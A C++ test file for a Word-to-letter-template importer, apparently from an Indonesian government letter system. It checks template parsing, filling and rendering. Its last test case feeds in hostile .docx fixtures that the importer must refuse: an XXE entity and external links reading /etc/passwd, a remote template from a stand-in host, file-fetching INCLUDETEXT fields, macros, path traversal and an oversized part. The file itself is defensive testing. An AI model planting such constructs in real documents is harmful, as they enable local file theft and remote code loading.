#include "office/letters/word.h"

#include <doctest/doctest.h>

#include "office/letters/sample_test.h"
#include "office/letters/template.h"
#include "office/letters/word_sample_test.h"

namespace paraf::letters {

namespace {

using word_sample::docx;
using word_sample::p;
using word_sample::row;

std::string yaml_of(const Bytes& file) {
  const auto made = template_of_word(file, "rekomendasi", "Surat Rekomendasi");
  return made ? made->yaml : std::string{made.error().code};
}

const std::string signature =
    p("Kepala Dinas,") + p("${ttd_pengirim}") + p("${nama_pengirim}") + p("NIP. ${nip_pengirim}");

}  // namespace

TEST_CASE("what an official writes in Word becomes the block it stands for") {
  struct Row {
    std::string why, body, holds;
  };
  const Row rows[] = {
      {"a blank split over runs",
       "<w:p><w:r><w:t>Bahwa $</w:t></w:r><w:r><w:t>{nama_</w:t></w:r><w:r><w:t>pemohon} "
       "benar</w:t></w:r></w:p>",
       "teks: Bahwa ${nama_pemohon} benar"},
      {"the other mark, in capitals with inner spaces", p("Bahwa #{ Nama Pemohon } benar"),
       "#{ Nama Pemohon }"},
      {"the heading's labels",
       p("Nomor\t: ${nomor_naskah}\t${tanggal_naskah}") + p("Sifat\t: Biasa") + p("Hal\t: Rekomendasi") +
           p("Dengan hormat."),
       "kepala:\n      sifat: Biasa\n      lampiran: \"\"\n      hal: Rekomendasi"},
      {"the addressee, up to the empty line",
       p("Hal : X") + p("Yth. Kepala Balai") + p("di Jakarta") + p("") + p("Isi surat."),
       "yth:\n      - Yth. Kepala Balai\n      - di Jakarta\n  - paragraf"},
      {"a list numbered by hand", p("Sebagai berikut:") + p("1. satu") + p("2. dua"),
       "daftar:\n      - satu\n      - dua"},
      {"lines of label and value, with a tab",
       p("Data:") + p("Nama\t: ${nama_pemohon}") + p("NIP\t: ${nip_pemohon}"),
       "rincian:\n      - [Nama, \"${nama_pemohon}\"]"},
      {"a row of the applicants' blanks is repeated for each",
       p("Daftar:") + "<w:tbl>" + row({"No", "Nama", "NIP"}) + row({"1", "#{nama}", "#{nip}"}) + "</w:tbl>",
       "kolom: [no, nama, nip]"},
      {"any other table stays one",
       p("Daftar:") + "<w:tbl>" + row({"Uraian", "Waktu", "Ket"}) + row({"Periksa", "1 jam", "-"}) +
           "</w:tbl>",
       "tabel:\n      kepala:\n        - Uraian"},
      {"what was deleted and only remembered is gone",
       p("Satu") +
           "<w:p><w:del><w:r><w:delText>rahasia</w:delText></w:r></w:del><w:r><w:t>dua</w:t></w:r></w:p>",
       "teks: dua"},
  };
  for (const Row& each : rows) {
    CAPTURE(each.why);
    const std::string yaml = yaml_of(docx(each.body + signature));
    CAPTURE(yaml);
    CHECK(yaml.find(each.holds) != std::string::npos);
    CHECK(yaml.find("tanda_tangan") != std::string::npos);
    CHECK(yaml.find("rahasia") == std::string::npos);
    CHECK(yaml.find("nip_pengirim") == std::string::npos);  // the built-in block prints it
  }
}

TEST_CASE("a letter from a Word file is filled, initialled and drawn like any other") {
  const people::Office office = sample::office_file("kudus").office;
  const auto made = template_of_word(word_sample::recommendation(), "rekomendasi", "Surat Rekomendasi");
  REQUIRE(made);
  CHECK(made->left == std::vector<std::string>{});
  const auto templat = Template::read(made->yaml, "word");
  REQUIRE(templat);
  SystemRandom random;
  Fields fields = sample::fields(office);
  const std::vector<Applicant> two = {
      {"Ani", "198604122011012001", "9910991204861001", "Perawat", "", "RS Contoh", "a@contoh.go.id", ""},
      {"Budi", "", "9910991204861002", "Bidan", "", "RS Contoh", "b@contoh.go.id", ""}};
  const auto content = templat->fill(fields, two, random);
  REQUIRE(content);
  const std::string said = canonical(*content);
  CHECK(said.find("Budi") != std::string::npos);
  CHECK(said.find("#{") == std::string::npos);
  auto edited = *content;
  for (Block& block : edited.blocks)
    if (auto* text = std::get_if<Text>(&block)) text->text += "!";
  CHECK(canonical_hash(edited) != canonical_hash(*content));
  const auto drawn =
      render(office, *content, {.number = "1/2026", .day = {}, .check_url = "https://x.example/s/a"});
  REQUIRE(drawn);
  CHECK(drawn->signature_page == 1);

  // A blank nothing fills stops the letter, and the file's own report says where it stands.
  const auto other = template_of_word(docx(p("Satu.") + p("Tentang ${nama_hewan}.") + signature), "x", "X");
  REQUIRE(other);
  CHECK(other->blanks.front().name == "nama_hewan");
  CHECK(other->blanks.front().paragraph == 2);
  const auto unfilled = Template::read(other->yaml, "word")->fill(fields, two, random);
  CHECK((unfilled ? "" : std::string{unfilled.error().code}) == "letters.blank_unfilled");
}

TEST_CASE("a Word file that is a trap is refused with what it holds") {
  using word_sample::zip;
  const std::string types =
      "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/xml\"/></Types>";
  const std::string good = word_sample::document(p("Satu") + signature);
  const auto rels = [](const std::string& inner) { return "<Relationships>" + inner + "</Relationships>"; };
  struct Row {
    std::string why;
    Bytes file;
    std::string code;
  };
  const Row rows[] = {
      {"as Word writes it", zip({{"[Content_Types].xml", types}, {"word/document.xml", good}}), ""},
      {"a program of macros", zip({{"word/document.xml", good}, {"word/vbaProject.bin", "x"}}),
       "letters.word_unsafe"},
      {"a macro document by its type",
       zip({{"[Content_Types].xml",
             "<Types><Override "
             "ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"},
            {"word/document.xml", good}}),
       "letters.word_unsafe"},
      {"a template fetched from elsewhere",
       zip({{"word/document.xml", good},
            {"word/_rels/settings.xml.rels",
             rels("<Relationship Type=\"x/attachedTemplate\" TargetMode=\"External\" "
                  "Target=\"http://jahat.example/t.dotm\"/>")}}),
       "letters.word_unsafe"},
      {"the same behind an attribute of another name space",
       zip({{"word/document.xml", good},
            {"word/_rels/document.xml.rels",
             rels("<Relationship x:TargetMode=\"Internal\" x:Target=\"a\" Type=\"x/image\" TargetMode=\"External\" "
                  "Target=\"file:///etc/rahasia.png\"/>")}}),
       "letters.word_unsafe"},
      {"a link to a file, which a picture may name",
       zip({{"word/document.xml", good},
            {"word/_rels/document.xml.rels",
             rels("<Relationship Type=\"x/hyperlink\" TargetMode=\"External\" Target=\"file:///etc/rahasia.png\"/>")}}),
       "letters.word_unsafe"},
      {"a link somebody may click is left out, not refused",
       zip({{"word/document.xml", good},
            {"word/_rels/document.xml.rels",
             rels("<Relationship Type=\"x/hyperlink\" TargetMode=\"External\" "
                  "Target=\"mailto:a@b.example\"/>")}}),
       ""},
      {"an entity that reaches outside",
       zip({{"word/document.xml", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>" + good}}),
       "letters.word_unsafe"},
      {"a field that fetches a file",
       zip({{"word/document.xml",
             word_sample::document(
                 "<w:p><w:r><w:instrText>INCLUDETEXT \"\\\\\\\\jahat\\\\x\"</w:instrText></w:r></w:p>" +
                 signature)}}),
       "letters.word_unsafe"},
      {"a field that fetches a file, in small letters and beside a link",
       zip({{"word/document.xml",
             word_sample::document("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/><w:instrText>includetext "
                                   "\"/etc/x\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/>"
                                   "<w:instrText>HYPERLINK \"x\"</w:instrText></w:r></w:p>" +
                                   signature)}}),
       "letters.word_unsafe"},
      {"a field that fetches a file, in the header",
       zip({{"word/document.xml", good},
            {"word/header1.xml", "<w:hdr><w:p><w:fldSimple w:instr=\" INCLUDEPICTURE x \"/></w:p></w:hdr>"}}),
       "letters.word_unsafe"},
      {"a link as a field is no such thing, whatever words its address has",
       zip({{"word/document.xml",
             word_sample::document("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/><w:instrText>HYPERLINK "
                                   "\"https://a.example/LINK IMPORT\"</w:instrText></w:r></w:p>" +
                                   signature)}}),
       ""},
      {"a part that is somewhere else without saying so",
       zip({{"word/document.xml", good},
            {"word/_rels/document.xml.rels",
             rels("<Relationship Type=\"x/image\" Target=\"file:///etc/passwd\"/>")}}),
       "letters.word_unsafe"},
      {"an embedded object",
       zip({{"word/document.xml", word_sample::document("<w:p><w:object/></w:p>" + signature)}}),
       "letters.word_unsafe"},
      {"a name that leaves the folder", zip({{"word/document.xml", good}, {"../../etc/x", "x"}}),
       "letters.word_unsafe"},
      {"one that swells",
       zip({{"word/document.xml", good}, {"word/_rels/bom.rels", std::string(45u << 20, ' ')}}),
       "letters.word_large"},
      {"text without end",
       zip({{"word/document.xml", word_sample::document(p(std::string(600u << 10, 'a')) + signature)}}),
       "letters.word_large"},
      {"no document in it", zip({{"xl/workbook.xml", "<x/>"}}), "letters.word_unreadable"},
      {"no ZIP", to_bytes(std::string_view{"bukan zip"}), "letters.word_unreadable"},
      {"the old form, or one with a password",
       to_bytes(std::string_view{"\xD0\xCF\x11\xE0"
                                 "abc"}),
       "letters.word_unreadable"},
      {"broken in the middle", zip({{"word/document.xml", good.substr(0, good.size() / 2)}}),
       "letters.word_unreadable"},
      {"a blank that is not closed", docx(p("Nama ${nama_pemohon") + signature), "letters.word_blank"},
      {"a blank without a name", docx(p("Nama ${ }") + signature), "letters.word_blank"},
      {"nobody signs", docx(p("Satu")), "letters.word_no_signature"},
  };
  for (const Row& each : rows) {
    CAPTURE(each.why);
    const auto made = template_of_word(each.file, "rekomendasi", "Surat");
    CHECK((made ? std::string{} : std::string{made.error().code}) == each.code);
  }
}

}  // namespace paraf::letters
